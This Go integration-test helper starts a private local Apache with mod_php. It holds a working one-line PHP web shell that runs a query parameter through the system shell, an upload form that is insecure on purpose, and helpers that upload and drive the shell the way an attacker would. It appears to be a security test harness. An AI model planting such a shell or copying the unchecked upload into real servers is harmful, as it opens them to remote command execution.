//go:build linux

package itest

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// WebShell is a minimal PHP web shell: it runs ?c= through /bin/sh.
const WebShell = `<?php echo shell_exec($_GET['c'] ?? 'id'); ?>` + "\n"

// uploadPHP is a deliberately vulnerable upload form: it stores whatever
// is posted, extension included, under up/.
const uploadPHP = `<?php
if (isset($_FILES['f'])) {
	$dst = __DIR__ . '/up/' . basename($_FILES['f']['name']);
	if (move_uploaded_file($_FILES['f']['tmp_name'], $dst)) {
		echo "stored up/" . basename($dst);
	} else {
		http_response_code(500);
		echo "upload failed";
	}
	exit;
}
?><form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
`

// Apache is a private Apache httpd with mod_php, listening on 127.0.0.1,
// its workers running as www-data (uid 33 on Debian).
type Apache struct {
	URL     string // http://127.0.0.1:PORT
	DocRoot string // the web root: upload.php, and up/ written by the workers
	Dir     string // configuration, logs, PHP's upload temporary directory
	PID     int    // the parent (root) process; workers are its children
	cmd     *exec.Cmd
}

// apacheBinary finds Debian's apache2 (or httpd) and its modules.
func apacheBinary(t testing.TB) (bin, modules, php string) {
	t.Helper()
	for _, b := range []string{"/usr/sbin/apache2", "/usr/sbin/httpd"} {
		if _, err := os.Stat(b); err == nil {
			bin = b
			break
		}
	}
	for _, d := range []string{"/usr/lib/apache2/modules", "/usr/lib64/httpd/modules", "/usr/lib/httpd/modules"} {
		if m, _ := filepath.Glob(filepath.Join(d, "libphp*.so")); len(m) > 0 {
			modules, php = d, m[0]
			break
		}
	}
	if bin == "" || php == "" {
		Skip(t, "apache2 with mod_php not installed (.ci/run installs it: apt-get install -y apache2 libapache2-mod-php)")
	}
	return bin, modules, php
}

// StartApache starts a private Apache from a temporary configuration
// (never the system's), with DocRoot holding upload.php. It is stopped
// when the test ends. Needs root (to switch its workers to www-data).
func StartApache(t testing.TB) *Apache {
	t.Helper()
	RequireRoot(t, "starting Apache with www-data workers")
	bin, modules, php := apacheBinary(t)
	uid, gid := lookupIDs(t, "www-data")
	dir := SharedDir(t)
	a := &Apache{Dir: dir, DocRoot: filepath.Join(dir, "www")}
	for _, d := range []string{a.DocRoot, filepath.Join(dir, "php")} {
		mkdir(t, d, 0o755)
	}
	for _, d := range []string{filepath.Join(a.DocRoot, "up"), filepath.Join(dir, "uploadtmp")} {
		mkdir(t, d, 0o755)
		if err := os.Chown(d, uid, gid); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, filepath.Join(a.DocRoot, "upload.php"), uploadPHP)
	writeFile(t, filepath.Join(dir, "php", "php.ini"), fmt.Sprintf(`file_uploads = On
upload_tmp_dir = %s
upload_max_filesize = 1M
auto_prepend_file =
auto_append_file =
display_errors = On
`, filepath.Join(dir, "uploadtmp")))
	port := freePort(t)
	a.URL = "http://127.0.0.1:" + strconv.Itoa(port)
	mods := ""
	for _, m := range []string{"mpm_prefork", "authz_core", "mime", "dir"} {
		mods += fmt.Sprintf("LoadModule %s_module %s/mod_%s.so\n", m, modules, m)
	}
	mods += fmt.Sprintf("LoadModule php_module %s\n", php)
	conf := fmt.Sprintf(`ServerRoot "%[1]s"
ServerName 127.0.0.1
Listen 127.0.0.1:%[2]d
PidFile "%[1]s/apache2.pid"
ErrorLog "%[1]s/error.log"
LogLevel warn
DefaultRuntimeDir "%[1]s"
Mutex file:%[1]s default
%[3]s
User www-data
Group www-data
StartServers 2
MinSpareServers 1
MaxSpareServers 4
MaxRequestWorkers 8
DocumentRoot "%[4]s"
<Directory />
	Require all denied
</Directory>
<Directory "%[4]s">
	Require all granted
</Directory>
DirectoryIndex upload.php
<FilesMatch "\.php$">
	SetHandler application/x-httpd-php
</FilesMatch>
PHPINIDir "%[1]s/php"
`, dir, port, mods, a.DocRoot)
	if _, err := os.Stat("/etc/mime.types"); err == nil {
		conf += "TypesConfig /etc/mime.types\n"
	}
	confPath := filepath.Join(dir, "httpd.conf")
	writeFile(t, confPath, conf)
	if out, err := exec.Command(bin, "-t", "-f", confPath).CombinedOutput(); err != nil {
		t.Fatalf("apache2 -t: %v\n%s", err, out)
	}
	a.cmd = exec.Command(bin, "-f", confPath, "-DFOREGROUND")
	a.cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var stderr bytes.Buffer
	a.cmd.Stdout, a.cmd.Stderr = &stderr, &stderr
	if err := a.cmd.Start(); err != nil {
		t.Fatalf("starting apache2: %v", err)
	}
	a.PID = a.cmd.Process.Pid
	t.Cleanup(func() { stopGroup(a.cmd, syscall.SIGTERM) })
	if err := waitHTTP(a.URL+"/upload.php", 20*time.Second); err != nil {
		log, _ := os.ReadFile(filepath.Join(dir, "error.log"))
		t.Fatalf("apache2 did not answer: %v\n%s\n%s", err, stderr.String(), log)
	}
	return a
}

// Upload posts content as a file named name through upload.php, as an
// attacker exploiting the form would, and returns the response body.
func (a *Apache) Upload(t testing.TB, name, content string) string {
	t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	fw, err := w.CreateFormFile("f", name)
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(fw, content)
	w.Close()
	resp, err := http.Post(a.URL+"/upload.php", w.FormDataContentType(), &body)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("upload of %s: %s: %s", name, resp.Status, b)
	}
	return string(b)
}

// Shell runs a command through an uploaded web shell (up/name) and
// returns its output.
func (a *Apache) Shell(t testing.TB, name, command string) string {
	t.Helper()
	resp, err := http.Get(a.URL + "/up/" + name + "?c=" + url.QueryEscape(command))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("shell %q: %s: %s", command, resp.Status, b)
	}
	return string(b)
}

func waitHTTP(u string, timeout time.Duration) error {
	deadline := time.Now().Add(timeout)
	for {
		resp, err := http.Get(u)
		if err == nil {
			resp.Body.Close()
			return nil
		}
		if time.Now().After(deadline) {
			return err
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// stopGroup signals a process group and waits, killing it after 10 s.
func stopGroup(cmd *exec.Cmd, sig syscall.Signal) {
	if cmd.Process == nil {
		return
	}
	syscall.Kill(-cmd.Process.Pid, sig)
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-done
	}
}

func freePort(t testing.TB) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

func mkdir(t testing.TB, d string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(d, mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(d, mode); err != nil {
		t.Fatal(err)
	}
}

func writeFile(t testing.TB, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// lookupIDs returns a system user's uid and gid from /etc/passwd.
func lookupIDs(t testing.TB, name string) (uid, gid int) {
	t.Helper()
	b, err := os.ReadFile("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		f := strings.Split(line, ":")
		if len(f) >= 4 && f[0] == name {
			uid, err1 := strconv.Atoi(f[2])
			gid, err2 := strconv.Atoi(f[3])
			if err1 == nil && err2 == nil {
				return uid, gid
			}
		}
	}
	Skip(t, "no user %s (installed with its Debian package)", name)
	return 0, 0
}
